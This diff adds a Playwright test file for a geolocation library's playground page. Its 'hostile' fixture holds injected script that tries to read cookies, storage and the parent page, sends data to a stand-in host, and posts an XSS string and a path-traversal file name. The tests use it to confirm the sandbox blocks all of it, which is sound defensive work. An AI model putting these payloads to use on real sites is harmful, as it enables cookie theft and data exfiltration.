@@ -1,0 +1,241 @@
+import type { FrameLocator, Page } from '@playwright/test';
+import { examples } from '../../../demo/page/playground/examples.js';
+import { playgroundLink } from '../../../demo/page/playground/link.js';
+import { violations } from '../demo/support.ts';
+import { layoutFaults } from '../demo/layout-faults.ts';
+import { expect, visibleText } from '../support/test.ts';
+import { test } from './support.ts';
+
+const live = (page: Page): FrameLocator => page.frameLocator('#playground-frame');
+const events = (page: Page) => page.locator('#playground-events');
+
+async function open(page: Page, built: string, markup: string, visitor = 'osaka'): Promise<void> {
+  await page.goto(`${built}/playground.html${playgroundLink({ markup, visitor })}`);
+}
+
+/** What the playground's page says. Its frame may just be loading again. */
+function read(page: Page): Promise<string> {
+  return visibleText(live(page).locator('body')).catch((error: unknown) => String(error));
+}
+
+/** What each example shows to a visitor from Lyon, and to one whose location is unknown. */
+const shown: Readonly<Record<string, readonly [lyon: RegExp, unknown: RegExp]>> = {
+  'Show local prices': [/€169 €139 Laces: €5\.50/, /\$179 \$149 Laces: \$6\.00/],
+  'Say how long delivery takes': [/Delivery to Lyon Free, in 2 to 3 days/, /Delivery to your door Worldwide/],
+  'Greet visitors in their language': [/Bonjour ! We ship to France/, /Hello! We ship to your country/],
+  'Show a banner in the EU only': [/We ask before we count visits/, /We ask before we count visits/],
+  'Link to the right country page': [/Pricing in France/, /^Pricing$/],
+  'Tell opening hours and times': [/Our workshop (is open until|opens) .* sets out Jan 16, 2027/, /Our workshop/],
+  'Find the nearest shop': [/Try them on: \w+, [\d,.]+ km away/, /Porto, Berlin, New York and Osaka/],
+  'Let visitors choose their country': [/Ship to .*€139/, /\$149/],
+  'Suggest another shop': [/Notre boutique parle français/, /^Shoes for walking Choose Lyon/],
+  'React in JavaScript': [/You are a visitor from France/, /You are a visitor from somewhere/],
+};
+
+for (const { name } of examples) {
+  test(`the example “${name}” shows what it is named for, and its own words where the location is unknown`, async ({
+    page,
+    built,
+  }) => {
+    const [lyon = /^$/, unknown = /^$/] = shown[name] ?? [];
+    await page.goto(`${built}/playground.html`);
+    await page.getByLabel('Example').selectOption(name);
+    await page.getByLabel('Visitor').selectOption('Lyon');
+    await expect(page.locator('#playground-where')).toHaveText('Seen from Lyon, France');
+    await expect.poll(() => read(page)).toMatch(lyon);
+    await page.getByLabel('Visitor').selectOption('Location unknown');
+    await expect(page.locator('#playground-where')).toHaveText('Location unknown');
+    await expect.poll(() => read(page)).toMatch(unknown);
+  });
+}
+
+test('a page is shown once, also when the page before it has asked, too', async ({ page, built }) => {
+  let release = () => {};
+  const released = new Promise<void>((resolve) => (release = resolve));
+  await page.route('**/playground/modules.json', async (route) => {
+    await released;
+    await route.continue();
+  });
+  const loaded = () => page.waitForEvent('requestfinished', (request) => request.url().endsWith('playground/frame.js'));
+  const [first] = await Promise.all([loaded(), page.goto(`${built}/playground.html`, { waitUntil: 'commit' })]);
+  expect(first.frame().url()).toContain('playground-frame');
+  await Promise.all([loaded(), page.getByLabel('Example').selectOption('Greet visitors in their language')]);
+  await expect.poll(() => page.frames().length).toBe(2);
+  await page.frames()[1]?.waitForLoadState();
+  release();
+  await page.getByLabel('Visitor').selectOption('Lyon');
+  await expect.poll(() => read(page)).toContain('Bonjour');
+});
+
+test('any country can be chosen', async ({ page, built }) => {
+  await open(page, built, '<geo-text template="{country}, {currency}">Somewhere</geo-text>');
+  await page.getByLabel('Visitor').selectOption({ label: 'Iceland' });
+  await expect.poll(() => read(page)).toBe('Iceland, Icelandic Króna');
+});
+
+test('a look-up that fails leaves the page as it is written, and says so', async ({ page, built, expectLines }) => {
+  expectLines(/\[geolet\] http/);
+  await open(page, built, '<geo-text template="{city}">your city</geo-text>', 'fails');
+  await expect(events(page)).toContainText('geo-error');
+  await expect(page.locator('#playground-where')).toHaveText('The look-up failed: the page as written');
+  expect(await read(page)).toBe('your city');
+});
+
+test('a slow look-up changes the page when it comes', async ({ page, built, expectLines }) => {
+  expectLines(/\[geolet\] timeout/);
+  await open(page, built, '<geo-text template="{city}">your city</geo-text>', 'slow');
+  await expect(events(page).getByRole('listitem').filter({ hasText: 'geo-change' })).toHaveText(
+    'geo-changenetwork FR',
+    {
+      timeout: 10_000,
+    },
+  );
+  await expect(events(page).getByRole('listitem').filter({ hasText: 'geo-ready' })).toHaveText('geo-readynone');
+  await expect.poll(() => read(page)).toBe('Lyon');
+});
+
+test('the page follows what is typed, and the address with it', async ({ page, built }) => {
+  await page.goto(`${built}/playground.html`);
+  await page.getByRole('textbox', { name: 'HTML' }).fill('<p data-geo-text="Hello, {city}">Hello</p>');
+  await expect.poll(() => read(page)).toBe('Hello, Osaka');
+  const { hash } = new URL(page.url());
+  expect(hash).toBe(playgroundLink({ markup: '<p data-geo-text="Hello, {city}">Hello</p>', visitor: 'osaka' }));
+});
+
+test('a link shares markup and visitor, and nothing of it is sent to a server', async ({ page, built, context }) => {
+  const requests: string[] = [];
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await open(page, built, '<p data-geo-text="Über {city} 🌍">Über</p>', 'berlin');
+  await page.getByRole('button', { name: 'Copy link' }).click();
+  await expect(page.locator('#playground-note')).toHaveText('Link copied.');
+  const link = await page.evaluate(() => navigator.clipboard.readText());
+  const other = await context.newPage();
+  other.on('request', (request) => requests.push(request.url() + (request.postData() ?? '')));
+  await other.goto(link);
+  await expect.poll(() => visibleText(live(other).locator('body'))).toBe('Über Berlin 🌍');
+  await expect(other.getByLabel('Visitor')).toHaveValue('berlin');
+  const beyond = requests.map((url) => url.replace(/#.*/, '')).filter((url) => !url.startsWith('data:'));
+  expect(beyond.filter((url) => !url.startsWith(`${built}/`))).toEqual([]);
+  expect(beyond.join('\n')).not.toMatch(/html=|Berlin\b/);
+  await other.close();
+});
+
+test('a broken link shows the first example, and says so', async ({ page, built }) => {
+  await page.goto(`${built}/playground.html#as=lyon&html=%%%`);
+  await expect(page.locator('#playground-note')).toHaveText(/incomplete/);
+  await expect.poll(() => read(page)).toMatch(/The Asterisk/);
+});
+
+test('clicking says why, also by keyboard, and a link is a link again afterwards', async ({ page, built }) => {
+  await open(
+    page,
+    built,
+    '<geo-currency prices="USD 9, JPY 900">$9</geo-currency> <a href="/x" data-geo-href="/{country:lower}/">Go</a>',
+  );
+  await expect.poll(() => read(page)).toContain('¥900');
+  const words = page.locator('#playground-words');
+  await expect(words).toBeHidden();
+  await page.getByRole('button', { name: 'Explain' }).click();
+  await live(page).locator('geo-currency').click();
+  await expect(words).toContainText("the visitor's currency is JPY, which the list has");
+  await live(page).locator('a').click();
+  await expect(words).toContainText('/{country:lower}/');
+  await live(page).locator('geo-currency').press('Enter');
+  await expect(words).toContainText('JPY');
+  await page.getByRole('button', { name: 'Explain' }).click();
+  await expect(words).toBeHidden();
+  await live(page).locator('a').click();
+  await expect(events(page)).toContainText('/jp/');
+});
+
+test('a script tag of Geolet in the markup gives its settings, and runs once', async ({ page, built }) => {
+  const tag = '<script async src="/geolet.js" data-endpoint="/geo" data-bindings="manual"></script>';
+  await open(page, built, `${tag}<p data-geo-text="{city}">by hand</p><geo-text template="{city}">x</geo-text>`);
+  await expect.poll(() => read(page)).toBe('by hand Osaka');
+});
+
+const hostile = `<p>Hostile</p><form action="https://elsewhere.example/form"><input name="a" value="b"></form>
+<script>
+const results = {};
+const attempt = (name, run) => { try { results[name] = String(run()); } catch (error) { results[name] = error.name; } };
+attempt('cookie', () => document.cookie);
+attempt('storage', () => localStorage.length);
+attempt('page', () => parent.document.title);
+attempt('origin', () => origin);
+attempt('top', () => { top.location = 'https://elsewhere.example/top'; });
+attempt('window', () => open('https://elsewhere.example/window'));
+attempt('form', () => { document.forms[0].submit(); });
+const sent = [
+  new Promise((resolve) => Object.assign(new Image(), { onload: () => resolve('image'), onerror: () => resolve('no') }).src = 'https://elsewhere.example/image'),
+  new Promise((resolve) => { const request = new XMLHttpRequest(); request.onload = () => resolve('request'); request.onerror = () => resolve('no'); request.open('GET', 'index.html'); request.send(); }),
+  new Promise((resolve) => { const socket = new WebSocket('wss://elsewhere.example/'); socket.onopen = () => resolve('socket'); socket.onerror = () => resolve('no'); }).catch(() => 'no'),
+];
+Promise.all(sent).then((answers) => {
+  parent.postMessage({ type: 'event', name: 'done', words: JSON.stringify({ ...results, answers }) }, '*');
+  parent.postMessage({ type: 'explained', words: '<img src=x onerror=alert(1)>' }, '*');
+  parent.postMessage({ type: 'file', name: '../package.json' }, '*');
+  parent.postMessage(null, '*');
+  location = 'https://elsewhere.example/frame?' + document.title;
+});
+</script>`;
+
+test('a hostile link reaches nothing of the site, and sends nothing anywhere', async ({ page, built, expectLines }) => {
+  expectLines(/./);
+  const left: string[] = [];
+  page.on('requestfinished', (request) => left.push(request.url()));
+  await page.addInitScript(() => localStorage.setItem('secret', 'of the site'));
+  const refused = page.waitForEvent('console', (message) => /frame-src|Framing/.test(message.text()));
+  await open(page, built, hostile);
+  const said = await events(page).getByText('"answers"').textContent();
+  await refused;
+  expect(JSON.parse(said ?? '')).toEqual({
+    cookie: 'SecurityError',
+    storage: 'SecurityError',
+    page: 'SecurityError',
+    origin: 'null',
+    top: 'SecurityError',
+    window: 'null',
+    form: 'undefined',
+    answers: ['no', 'no', 'no'],
+  });
+  expect(left.filter((url) => !url.startsWith(`${built}/`) && !url.startsWith('data:'))).toEqual([]);
+  expect(page.url()).toContain(`${built}/playground.html#`);
+  await expect(page.locator('#playground-words img')).toHaveCount(0);
+  await expect(page.getByRole('heading', { name: 'Playground' })).toBeVisible();
+});
+
+test('the playground is worked by keyboard alone', async ({ page, built }) => {
+  await page.goto(`${built}/playground.html`);
+  await expect(page.locator('#playground-where')).toHaveText('Seen from Osaka, Japan');
+  await page.getByLabel('Example').focus();
+  await page.keyboard.press('ArrowDown');
+  await page.keyboard.press('Tab');
+  await page.keyboard.type('Iceland');
+  await expect(page.locator('#playground-where')).toHaveText('Seen from Iceland');
+  for (const name of ['Explain', 'Copy link']) {
+    await page.keyboard.press('Tab');
+    await expect(page.getByRole('button', { name })).toBeFocused();
+  }
+  await page.keyboard.press('Tab');
+  await expect(page.getByRole('textbox', { name: 'HTML' })).toBeFocused();
+  await page.keyboard.press('Tab');
+  await expect(page.getByRole('textbox', { name: 'HTML' })).not.toBeFocused();
+});
+
+for (const [width, scheme] of [
+  [1280, 'light'],
+  [390, 'dark'],
+] as const) {
+  test(`the playground has nothing for axe to say and nothing cut off at ${width} px, ${scheme}`, async ({
+    browser,
+    built,
+  }) => {
+    const page = await browser.newPage({ bypassCSP: true, viewport: { width, height: 800 }, colorScheme: scheme });
+    await page.goto(`${built}/playground.html`);
+    await expect(page.locator('#playground-where')).toHaveText('Seen from Osaka, Japan');
+    await page.getByRole('button', { name: 'Explain' }).click();
+    expect(await violations(page)).toEqual([]);
+    expect(await layoutFaults(page)).toEqual([]);
+    await page.close();
+  });
+}
